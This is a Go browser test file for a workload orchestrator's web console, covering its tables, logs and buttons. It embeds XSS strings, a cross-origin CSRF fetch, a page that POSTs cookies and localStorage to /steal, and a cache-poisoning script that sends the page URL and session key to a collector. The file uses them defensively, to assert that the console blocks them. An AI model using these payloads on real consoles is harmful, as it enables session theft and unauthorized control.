package console

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"github.com/nexrun/nex/internal/testutil"
	v1 "github.com/nexrun/nex/pkg/api/v1"
	"github.com/nexrun/nex/pkg/client"
	"github.com/nexrun/nex/pkg/natsconn"
)

// The console in a real Chromium against a real node: the overview shows the node; a
// workload started with the client shows in the table within a second; its page shows
// its log lines as they come; its stop button stops it; hostile text stays text; another
// site's page cannot make it act.
func TestBrowserConsole(t *testing.T) {
	b := newBrowser(t)
	e := newEnv(t, "system")
	base := "http://" + e.addr + e.srv.Page()[:len(e.srv.Page())-1] // the page is at base+"/"
	eventsSubject := v1.EventSubject("default", "x")
	before := e.following(eventsSubject, v1.EventsStream("default"))

	// the overview: the URL nex ui prints gives the page the session key and leads here
	b.do(t, 20*time.Second, "the overview shows the node", chromedp.Navigate(e.srv.URL(e.addr)),
		chromedp.WaitVisible(chromedp.CSS(`#nodes tr[data-node="`+e.nodeID+`"]`)))
	if got := eval[string](t, b, `document.querySelector('#nodes tbody tr td').textContent`); got != "console-node" {
		t.Fatalf("the node's name in the overview: %q", got)
	}

	// the workloads table, live
	b.do(t, 20*time.Second, "the workloads page", chromedp.Navigate(base+"/#/workloads"), chromedp.WaitVisible(chromedp.CSS(`#workloads tbody`)))
	b.waitTrue(t, 10*time.Second, "the page following events", `document.querySelector('#live.on')`)
	e.waitFollowing(eventsSubject, v1.EventsStream("default"), before)
	w := e.start("web", "service", `{"value":"v","environment":{"PASSWORD":"hunter2"}}`)
	took := b.waitTrue(t, time.Second, "the new workload in the table", fmt.Sprintf(`document.querySelector('#workloads tr[data-id=%q]')`, w.ID))
	t.Logf("a started workload showed in the table after %s", took)

	browseWorkload(t, b, e, w)
	cloneWithName(t, b, e)
	stopWithButton(t, b, e, w)
	scaleGroup(t, b, e)
	hostileText(t, b, e)
	newNamespace(t, b, e)
	crossOriginPost(t, b, e)
	otherPortListener(t, b, e)
	cachedByAnEarlierListener(t, b, e)

	b.do(t, 20*time.Second, "the overview again", chromedp.Navigate(base+"/#/"), chromedp.WaitVisible(chromedp.CSS(`#recent-events li`)))
	b.screenshot(t, "console-overview", false)
	lostNode(t, b, e)
	if n := b.alerts.Load(); n != 0 {
		t.Fatalf("%d alerts fired", n)
	}
}

// browseWorkload opens w's page, sees its definition masked and its log lines arrive.
func browseWorkload(t *testing.T, b *browser, e *env, w *v1.WorkloadInfo) {
	logSubject := v1.LogSubject("default", w.ID)
	before := e.following(logSubject, v1.LogsStream("default"))
	b.do(t, 20*time.Second, "the workload's page", chromedp.Click(chromedp.CSS(fmt.Sprintf(`#workloads tr[data-id=%q] a`, w.ID))),
		chromedp.WaitVisible(chromedp.CSS(`#definition`)), chromedp.WaitVisible(chromedp.CSS(`#logs`)))
	def := eval[string](t, b, `document.getElementById('definition').textContent`)
	if !strings.Contains(def, "PASSWORD") || strings.Contains(def, "hunter2") || strings.Contains(def, "nexenc") {
		t.Fatalf("the definition shown: %s", def)
	}
	e.waitFollowing(logSubject, v1.LogsStream("default"), before)
	lw := e.feed.LineWriter("default", w.ID, "stdout")
	defer lw.Close()
	for i := range 3 {
		fmt.Fprintf(lw, "hello from the console test, line %d\n", i)
	}
	fmt.Fprintln(lw, `<img src=x onerror=alert(1)><script>alert(2)</script>`)
	took := b.waitTrue(t, 5*time.Second, "the log lines", `document.getElementById('logs').textContent.includes('line 2') && document.getElementById('logs').textContent.includes('<script>alert(2)</script>')`)
	t.Logf("log lines showed after %s", took)
	if n := eval[int](t, b, `document.querySelectorAll('#logs img, #logs script').length`); n != 0 {
		t.Fatalf("a log line became %d elements", n)
	}
	b.screenshot(t, "console-workload", true)
	// the filter keeps only matching lines
	b.do(t, 5*time.Second, "filter the logs", chromedp.SendKeys(chromedp.CSS(`#log-filter`), "line 1"))
	b.waitTrue(t, 5*time.Second, "the filtered lines", `document.querySelectorAll('#logs .line').length === 1`)
}

// stopWithButton stops w with its page's button (accepting the confirm dialog) and sees it
// stopped on the page, in the table and in a listing.
// cloneWithName clones the workload on whose page the browser is under a name typed in,
// and sees a bad name refused with the API's error.
func cloneWithName(t *testing.T, b *browser, e *env) {
	clone := func(name string) string {
		eval[bool](t, b, fmt.Sprintf(`document.getElementById('result').hidden = true; document.getElementById('clone-name').value = %q; true`, name))
		b.do(t, 30*time.Second, "clone with the button", chromedp.Click(chromedp.CSS(`button[data-action="clone"]`)))
		b.waitTrue(t, 30*time.Second, "the clone's result", `!document.getElementById('result').hidden`)
		return eval[string](t, b, `document.getElementById('result').className + ": " + document.getElementById('result').textContent`)
	}
	got0 := clone("web-copy")
	if !strings.HasPrefix(got0, "result ok") || !strings.Contains(got0, "(web-copy)") {
		t.Fatalf("the clone's result: %q", got0)
	}
	testutil.Eventually(t, 5*time.Second, "the copy named web-copy to be listed", func() bool {
		list, err := e.cl.ListWorkloads(context.Background(), "")
		return err == nil && slices.ContainsFunc(list, func(x v1.WorkloadInfo) bool { return x.Name == "web-copy" })
	})
	if got := clone("bad name"); !strings.HasPrefix(got, "result err") || !strings.Contains(got, "name") {
		t.Fatalf("a clone under a bad name: %q", got)
	}
	eval[bool](t, b, `document.getElementById('result').hidden = true; document.getElementById('clone-name').value = ""; true`)
}

func stopWithButton(t *testing.T, b *browser, e *env, w *v1.WorkloadInfo) {
	b.do(t, 30*time.Second, "stop with the button", chromedp.Click(chromedp.CSS(`button[data-action="stop"]`)))
	b.waitTrue(t, 30*time.Second, "the stop's result", `document.getElementById('result') && !document.getElementById('result').hidden`)
	if got := eval[string](t, b, `document.getElementById('result').className + ": " + document.getElementById('result').textContent`); !strings.HasPrefix(got, "result ok") || !strings.Contains(got, "stopped") {
		t.Fatalf("the stop's result: %q", got)
	}
	// a node forgets a workload a user stopped: a listing has it no more, or as stopped
	if st := e.state(w.ID); st != "" && st != v1.StateStopped {
		t.Fatalf("after the stop a listing has the workload %s", st)
	}
	// the table keeps the row, marked stopped (from the stop's event), until it is listed again
	eval[bool](t, b, `location.hash = "#/workloads"; true`)
	b.do(t, 20*time.Second, "the workloads page", chromedp.WaitVisible(chromedp.CSS(`#workloads tbody`)))
	defer func() {
		if t.Failed() {
			t.Log(eval[string](t, b, fmt.Sprintf(`JSON.stringify(nexConsole.store.workloads.get(%q) || null) + " rows:" + document.querySelectorAll('#workloads tbody tr').length + " hash:" + location.hash`, w.ID)))
		}
	}()
	b.waitTrue(t, 5*time.Second, "the table to show it stopped", fmt.Sprintf(`(document.querySelector('#workloads tr[data-id=%q] td.state')||{}).textContent === 'stopped'`, w.ID))
}

// hostileText starts a workload whose name and description are HTML that would run a
// script if parsed, and sees them as text in the table and on its page.
func hostileText(t *testing.T, b *browser, e *env) {
	name := `<img/src=x/onerror=alert(1)//`
	desc := `<img src=x onerror=alert(1)>`
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	w, err := e.cl.StartWorkload(ctx, v1.WorkloadDefinition{Namespace: "default", Name: name, Description: desc, Type: "memory", Lifecycle: "service", StartRequest: json.RawMessage(`{"value":"<b>bold</b>"}`)})
	if err != nil {
		t.Fatal(err)
	}
	row := fmt.Sprintf(`#workloads tr[data-id=%q]`, w.ID)
	b.waitTrue(t, 5*time.Second, "the hostile workload in the table", `document.querySelector('`+row+`')`)
	if got := eval[string](t, b, `document.querySelector('`+row+` td.name').textContent`); got != name {
		t.Fatalf("the name shows as %q", got)
	}
	if n := eval[int](t, b, `document.querySelectorAll('#workloads img, #workloads script').length`); n != 0 {
		t.Fatalf("the name became %d elements", n)
	}
	b.do(t, 20*time.Second, "the hostile workload's page", chromedp.Navigate("http://"+e.addr+e.srv.Page()+"#/workload/"+w.ID), chromedp.WaitVisible(chromedp.CSS(`#definition`)))
	if got := eval[string](t, b, `document.querySelector('h1 .wname').textContent`); got != name {
		t.Fatalf("the page's title shows %q", got)
	}
	b.waitTrue(t, 5*time.Second, "the description as text", `document.querySelector('main').textContent.includes(`+strconv.Quote(desc)+`)`)
	if got := eval[string](t, b, `document.getElementById('definition').textContent`); !strings.Contains(got, "<b>bold</b>") {
		t.Fatalf("the start request shows as %q", got)
	}
	if n := eval[int](t, b, `document.querySelectorAll('main img, main script, #definition *').length`); n != 0 {
		t.Fatalf("the page holds %d elements made of the workload's values", n)
	}
}

// crossOriginPost loads another site's page that posts a stop to the console: the console
// refuses it (403) and the workload keeps running.
func crossOriginPost(t *testing.T, b *browser, e *env) {
	w := e.start("target", "service", `{"value":"v"}`)
	attack := fmt.Sprintf(`<!doctype html><title>attack</title><script>
fetch("http://%s/api/workloads/%s/stop", {method: "POST", mode: "no-cors", credentials: "include", headers: {"Content-Type": "text/plain"}, body: "{}"})
  .then(() => { document.title = "sent"; }, () => { document.title = "sent"; });
</script>`, e.addr, w.ID)
	other := httptest.NewServer(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		rw.Header().Set("Content-Type", "text/html")
		_, _ = rw.Write([]byte(attack))
	}))
	defer other.Close()
	b.do(t, 20*time.Second, "the other site's page", chromedp.Navigate(other.URL))
	b.waitTrue(t, 10*time.Second, "the other page's request", `document.title === "sent"`)
	path := "POST /api/workloads/" + w.ID + "/stop"
	testutil.Eventually(t, 5*time.Second, "the console to answer the cross-origin POST", func() bool { return len(e.answered(path)) > 0 })
	if got := e.answered(path); len(got) != 1 || got[0] != path+" Forbidden" {
		t.Fatalf("the cross-origin POST was answered %v", got)
	}
	if st := e.state(w.ID); st != v1.StateRunning {
		t.Fatalf("after a cross-origin POST the workload is %q", st)
	}
}

// otherPortListener: a page served on another port of the console's host (any local user,
// program or, with the browser on a node, tenant's workload can listen there), opened in
// the browser that holds the console, gets nothing of the session key: not in the
// requests the browser sends it, not from its own storage. A cookie went to every port
// of the host, and such a page drove the system console with it (a review).
func otherPortListener(t *testing.T, b *browser, e *env) {
	var mu sync.Mutex
	var heard []string
	page := `<!doctype html><title>listener</title><script>
fetch("/steal", {method: "POST", body: document.cookie + "|" + JSON.stringify(localStorage)})
  .then(() => { document.title = "told"; }, () => { document.title = "told"; });
</script>`
	other := httptest.NewServer(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		mu.Lock()
		heard = append(heard, r.Method+" "+r.URL.Path+" cookie="+r.Header.Get("Cookie")+" body="+string(b))
		mu.Unlock()
		rw.Header().Set("Content-Type", "text/html")
		_, _ = rw.Write([]byte(page))
	}))
	defer other.Close()
	if !strings.HasPrefix(other.URL, "http://127.0.0.1:") || !strings.HasPrefix(e.addr, "127.0.0.1:") {
		t.Fatalf("the listener (%s) and the console (%s) must share a host", other.URL, e.addr)
	}
	b.do(t, 20*time.Second, "the other port's page", chromedp.Navigate(other.URL))
	b.waitTrue(t, 10*time.Second, "the other page's report", `document.title === "told"`)
	mu.Lock()
	defer mu.Unlock()
	if len(heard) < 2 {
		t.Fatalf("the listener heard %v", heard)
	}
	for _, h := range heard {
		if strings.Contains(h, e.srv.Key()) {
			t.Fatalf("a page on another port of the console's host got the session key: %s", h)
		}
	}
}

// cachedByAnEarlierListener: a listener on a port before a console runs there serves its
// page cacheable for a year, and the operator's browser opens it once; later the
// console runs on that port and the browser opens the URL nex ui printed. The browser
// showed the cached page for it, in the console's origin, which read the key from the
// fragment and sent it away (a review stopped b's service with it). The console's page
// is at a random path now: the cached page is never the one the URL names.
func cachedByAnEarlierListener(t *testing.T, b *browser, e *env) {
	var mu sync.Mutex
	var told []string
	collector := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		mu.Lock()
		told = append(told, r.URL.RawQuery)
		mu.Unlock()
	}))
	defer collector.Close()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	addr := ln.Addr().String()
	poison := &http.Server{Handler: http.HandlerFunc(func(rw http.ResponseWriter, _ *http.Request) {
		rw.Header().Set("Cache-Control", "public, max-age=31536000, immutable")
		rw.Header().Set("Content-Type", "text/html")
		_, _ = fmt.Fprintf(rw, `<!doctype html><title>poisoned</title><script>
fetch(%q + "/?h=" + encodeURIComponent(location.href), {mode: "no-cors"}).finally(() => { document.title = "sent"; });
</script>`, collector.URL)
	})}
	go func() { _ = poison.Serve(ln) }()
	b.do(t, 20*time.Second, "the earlier listener's page", chromedp.Navigate("http://"+addr+"/"))
	b.waitTrue(t, 10*time.Second, "the earlier listener's page loaded", `document.title === "sent"`)
	_ = poison.Close()
	b.do(t, 10*time.Second, "another page", chromedp.Navigate("about:blank")) // the operator moves on

	srv, err := New(Config{Conn: natsconn.Plain(e.conn), Namespace: "system", Version: "test"}, addr)
	if err != nil {
		t.Fatal(err)
	}
	defer srv.Close()
	ln2, err := net.Listen("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	hs := &http.Server{Handler: srv.Handler()}
	go func() { _ = hs.Serve(ln2) }()
	defer hs.Close()
	mu.Lock()
	told = nil
	mu.Unlock()
	b.do(t, 20*time.Second, "the console's URL", chromedp.Navigate(srv.URL(addr)))
	leaked := func() string {
		mu.Lock()
		defer mu.Unlock()
		for _, h := range told {
			if strings.Contains(h, srv.Key()) {
				return h
			}
		}
		return ""
	}
	testutil.Eventually(t, 20*time.Second, "the console's overview, or the key sent away", func() bool {
		return leaked() != "" || eval[bool](t, b, `!!document.querySelector('#nodes tr[data-node="`+e.nodeID+`"]')`)
	})
	if h := leaked(); h != "" {
		t.Fatalf("the earlier listener's cached page, shown for the console's URL, sent away its key: %s", h)
	}
}

// scaleGroup starts a replica group of one copy, opens the copy's page and scales the
// group to 3 with its Scale button; the copies appear in the table.
func scaleGroup(t *testing.T, b *browser, e *env) {
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	var st *v1.GroupStatus
	testutil.Eventually(t, 20*time.Second, "the node to serve groups (the coordinator)", func() bool {
		var err error
		st, err = e.cl.StartGroup(ctx, v1.WorkloadDefinition{Namespace: "default", Name: "grp", Type: "memory", Lifecycle: "service", StartRequest: json.RawMessage(`{"value":"v"}`)}, 1, 3, "")
		return err == nil
	})
	testutil.Eventually(t, 10*time.Second, "the group's first copy", func() bool {
		g, err := e.cl.Group(ctx, st.ID, v1.GroupRequest{Op: v1.GroupInfo})
		if err == nil {
			st = g
		}
		return err == nil && len(g.Copies) == 1
	})
	b.do(t, 20*time.Second, "the copy's page", chromedp.Navigate("http://"+e.addr+e.srv.Page()+"#/workload/"+st.Copies[0].ID), chromedp.WaitVisible(chromedp.CSS(`button[data-action="scale"]`)))
	b.waitTrue(t, 5*time.Second, "the group's replicas in the scale box", `document.getElementById('replicas').value === "1"`)
	eval[bool](t, b, `document.getElementById('replicas').value = "3"; true`)
	b.do(t, 30*time.Second, "scale with the button", chromedp.Click(chromedp.CSS(`button[data-action="scale"]`)))
	b.waitTrue(t, 30*time.Second, "the scale's result", `document.getElementById('result') && !document.getElementById('result').hidden`)
	if got := eval[string](t, b, `document.getElementById('result').className + ": " + document.getElementById('result').textContent`); !strings.HasPrefix(got, "result ok") || !strings.Contains(got, "wants 3 copies") {
		t.Fatalf("the scale's result: %q", got)
	}
	testutil.Eventually(t, 20*time.Second, "3 copies", func() bool {
		g, err := e.cl.Group(ctx, st.ID, v1.GroupRequest{Op: v1.GroupInfo})
		return err == nil && len(g.Copies) == 3
	})
	eval[bool](t, b, `location.hash = "#/workloads"; true`)
	b.waitTrue(t, 10*time.Second, "the 3 copies in the table", fmt.Sprintf(`document.querySelectorAll('#workloads a[href="#/group/default/%s"]').length === 3`, st.ID))
	eval[bool](t, b, fmt.Sprintf(`location.hash = "#/group/default/%s"; true`, st.ID))
	b.waitTrue(t, 10*time.Second, "the group's page with its rollout", `document.querySelector('main').textContent.includes("3 of 3 copies run version 1")`)
	eval[bool](t, b, `location.hash = "#/workloads"; true`) // where the next step begins
	b.do(t, 20*time.Second, "the workloads page", chromedp.WaitVisible(chromedp.CSS(`#workloads tbody`)))
}

// lostNode publishes the coordinator's node_lost event of a node that does not answer:
// the overview lists it as a row, lost, with when it was last heard from.
func lostNode(t *testing.T, b *browser, e *env) {
	gone := "NLOSTNODE" + strings.Repeat("X", 47)
	ev, _ := json.Marshal(v1.Event{Type: v1.EventNodeLost, Namespace: v1.SystemNamespace, NodeID: e.nodeID, Time: time.Now().UTC(),
		Data: map[string]any{"node_id": gone, "last_seen": time.Now().Add(-12 * time.Second).UTC()}})
	if err := e.nc.Publish(v1.NodeEventSubject(e.nodeID), ev); err != nil {
		t.Fatal(err)
	}
	row := fmt.Sprintf(`#nodes tr[data-node=%q]`, gone)
	b.waitTrue(t, 10*time.Second, "the lost node's row", `document.querySelector('`+row+`')`)
	if got := eval[string](t, b, `document.querySelector('`+row+` .badge').textContent`); got != "lost" {
		t.Fatalf("the lost node's state shows as %q", got)
	}
}

// newNamespace starts the first workload of a namespace the system console has not seen:
// it shows in the table within seconds (it waited for the next listing, up to 30 s).
func newNamespace(t *testing.T, b *browser, e *env) {
	eval[bool](t, b, `location.hash = "#/workloads"; true`)
	b.do(t, 20*time.Second, "the workloads page", chromedp.WaitVisible(chromedp.CSS(`#workloads tbody`)))
	fresh, _ := client.New(e.nc, "fresh")
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	w, err := fresh.StartWorkload(ctx, v1.WorkloadDefinition{Name: "first", Type: "memory", Lifecycle: "service", StartRequest: json.RawMessage(`{"value":"v"}`)})
	if err != nil {
		t.Fatal(err)
	}
	took := b.waitTrue(t, 5*time.Second, "the new namespace's first workload in the table", fmt.Sprintf(`document.querySelector('#workloads tr[data-id=%q]')`, w.ID))
	t.Logf("a new namespace's first workload showed after %s", took)
}
